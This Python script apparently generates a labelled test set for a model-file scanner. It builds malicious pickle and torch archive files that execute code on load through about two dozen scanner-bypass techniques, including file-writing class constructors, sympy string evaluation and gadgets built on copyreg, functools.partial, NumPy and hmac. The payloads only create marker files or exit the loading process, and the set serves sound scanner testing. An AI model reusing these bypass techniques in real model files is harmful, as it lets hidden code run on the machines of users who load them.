#!/usr/bin/env python
"""Write the dangerous half of the labelled scan set: one file per bypass technique.

``python make_dangerous.py OUT`` writes ``OUT/<id>.pkl`` (or ``.pt``, a torch ZIP archive) and
``OUT/manifest.json``; standard library only, in well under a second. Each payload, when
``torch.load(weights_only=False)`` reads it, creates ``OUT/markers/<id>`` (or, for
``sitebuiltins_quitter``, ends the loading process): ``tests/scanner/test_labelled.py``
confirms every one by loading it with torch in a subprocess. Never load these files outside
that test.

The techniques are those scanner-bypass write-ups used in 2025-26: classes (not functions)
whose constructor writes a file, re-exports inside torch, sympy's string evaluation, and
vetted rules that forward a callable the file chose (``_rebuild_from_type_v2``,
``copyreg._reconstructor``, ``functools.partial`` swapped by ``BUILD``, NumPy's RNG
constructor callback, ``hmac``'s digestmod), through every call opcode (REDUCE, INST, OBJ).
"""

from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

PROTO2 = b"\x80\x02"


def g(module: str, name: str) -> bytes:
    """GLOBAL module name."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4) of module and name."""
    return s(module) + s(name) + b"\x93"


def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def t(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + t(*args) + b"R"


def wrap(value: bytes) -> bytes:
    """A state-dict-like pickle whose "extra" value is the payload."""
    return PROTO2 + b"}(" + s("weight") + s("not a tensor") + s("extra") + value + b"u."


def torch_zip(pickle_bytes: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pickle_bytes)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def _cases(marker: Callable[[str], str]) -> dict[str, tuple[str, bytes, str]]:
    """id -> (technique, file bytes, suffix)."""
    out: dict[str, tuple[str, bytes, str]] = {}

    def add(cid: str, what: str, payload: bytes, *, zip_: bool = False, raw: bool = False) -> None:
        body = payload if raw else wrap(payload)
        out[cid] = (what, torch_zip(body) if zip_ else body, ".pt" if zip_ else ".pkl")

    m = marker
    add("wave_write_class", "wave.Wave_write(path): a class whose constructor opens a file",
        call(g("wave", "Wave_write"), s(m("wave_write_class"))), zip_=True)
    add("wave_open", "wave.open(path, 'wb')", call(g("wave", "open"), s(m("wave_open")),
                                                    s("wb")))
    add("aifc_write_class", "aifc.Aifc_write(path)",
        call(g("aifc", "Aifc_write"), s(m("aifc_write_class"))))
    add("pyio_fileio", "_pyio.FileIO(path, 'w') (the pure-Python io module)",
        call(g("_pyio", "FileIO"), s(m("pyio_fileio")), s("w")), zip_=True)
    add("argparse_filetype", "argparse.FileType('w')(path): calling an instance",
        call(call(g("argparse", "FileType"), s("w")), s(m("argparse_filetype"))))
    add("torch_utils_zip", "torch.utils._zip.ZipFile(path, 'w'): a re-export inside torch",
        call(g("torch.utils._zip", "ZipFile"), s(m("torch_utils_zip")), s("w")), zip_=True)
    add("torch_file_writer", "torch.PyTorchFileWriter(path): torch's own archive writer",
        call(g("torch", "PyTorchFileWriter"), s(m("torch_file_writer"))))
    mk = m("tempfile_named")
    add("tempfile_named", "tempfile.NamedTemporaryFile(..., delete=False)",
        call(g("tempfile", "NamedTemporaryFile"), s("w"), b"J\xff\xff\xff\xff", b"N", b"N",
             s(""), s(Path(mk).name), s(str(Path(mk).parent)), b"\x89"))
    add("fsspec_local_opener", "fsspec's LocalFileOpener(path, 'wb')",
        call(g("fsspec.implementations.local", "LocalFileOpener"),
             s(m("fsspec_local_opener")), s("wb")))
    code = f"__import__('pathlib').Path({m('sympy_sympify')!r}).touch()"
    add("sympy_sympify", "sympy.sympify of a string (sympy ships with torch)",
        call(g("sympy.core.sympify", "sympify"), s(code)))
    add("sitebuiltins_quitter", "_sitebuiltins.Quitter(...)(): exits the loading process",
        call(call(g("_sitebuiltins", "Quitter"), s("exit"), s("EOF")), ))
    add("inst_opcode", "INST _pyio FileIO: the call opcode of protocol 0",
        b"(" + s(m("inst_opcode")) + s("w") + b"i_pyio\nFileIO\n")
    add("obj_opcode", "OBJ with wave.Wave_write",
        b"(" + g("wave", "Wave_write") + s(m("obj_opcode")) + b"o")
    add("stack_global_wave", "STACK_GLOBAL wave.Wave_write, protocol 4",
        b"\x80\x04" + sg("wave", "Wave_write") + s(m("stack_global_wave")) + b"\x85R.",
        raw=True)
    # forwarding rules
    add("rebuild_from_type_v2", "torch._tensor._rebuild_from_type_v2 forwarding its func",
        call(g("torch._tensor", "_rebuild_from_type_v2"), g("_pyio", "FileIO"),
             g("torch._tensor", "Tensor"), t(s(m("rebuild_from_type_v2")), s("w")), b"}"),
        zip_=True)
    add("copyreg_reconstructor", "copyreg._reconstructor(cls, base, state) forwarding base",
        call(g("copyreg", "_reconstructor"), g("wave", "Wave_write"), g("wave", "Wave_write"),
             s(m("copyreg_reconstructor"))))
    add("partial_build_swap", "functools.partial(OrderedDict) whose BUILD swaps in "
        "_pyio.FileIO, then called",
        call(g("functools", "partial"), g("collections", "OrderedDict"))
        + t(g("_pyio", "FileIO"), t(s(m("partial_build_swap")), s("w")), b"}", b"N")
        + b"b)R")
    add("partial_direct", "functools.partial(_pyio.FileIO, path, 'w')()",
        call(g("functools", "partial"), g("_pyio", "FileIO"), s(m("partial_direct")),
             s("w")) + b")R")
    add("numpy_generator_ctor", "numpy __generator_ctor(path, wave.Wave_write): the "
        "bit_generator_ctor callback",
        call(g("numpy.random._pickle", "__generator_ctor"), s(m("numpy_generator_ctor")),
             g("wave", "Wave_write")))
    add("numpy_randomstate_ctor", "numpy __randomstate_ctor(path, wave.Wave_write)",
        call(g("numpy.random._pickle", "__randomstate_ctor"), s(m("numpy_randomstate_ctor")),
             g("wave", "Wave_write")), zip_=True)
    add("hmac_digestmod", "hmac.new(key, msg, digestmod=partial(_pyio.FileIO, path, 'w'))",
        call(g("hmac", "new"), b"C\x01k", b"C\x01m",
             call(g("functools", "partial"), g("_pyio", "FileIO"), s(m("hmac_digestmod")),
                  s("w"))))
    add("getattr_method_call", "getattr(pathlib.Path(path), 'touch')(): a method of an "
        "object the file built",
        call(call(g("builtins", "getattr"), call(g("pathlib", "Path"), s(m(
            "getattr_method_call"))), s("touch"))))
    add("codecs_open", "codecs.open(path, 'w')", call(g("codecs", "open"),
                                                     s(m("codecs_open")), s("w")))
    add("memo_decoy_stack_global", "STACK_GLOBAL operands fetched from the memo past decoys",
        b"\x80\x04" + s("torch") + b"\x940" + s("_pyio") + b"\x940" + s("FileIO") + b"\x940"
        + b"h\x01h\x02\x93" + s(m("memo_decoy_stack_global")) + s("w") + b"\x86R.",
        raw=True)
    return out


def main() -> int:
    out = Path(sys.argv[1]).resolve()
    (out / "markers").mkdir(parents=True, exist_ok=True)
    cases = _cases(lambda cid: str(out / "markers" / cid))
    manifest = []
    for cid, (what, data, suffix) in cases.items():
        name = f"{cid}{suffix}"
        (out / name).write_bytes(data)
        manifest.append({"id": cid, "file": name, "label": "dangerous", "technique": what,
                         "marker": None if cid == "sitebuiltins_quitter"
                         else str(out / "markers" / cid)})
    (out / "manifest.json").write_text(json.dumps({"cases": manifest}, indent=1) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
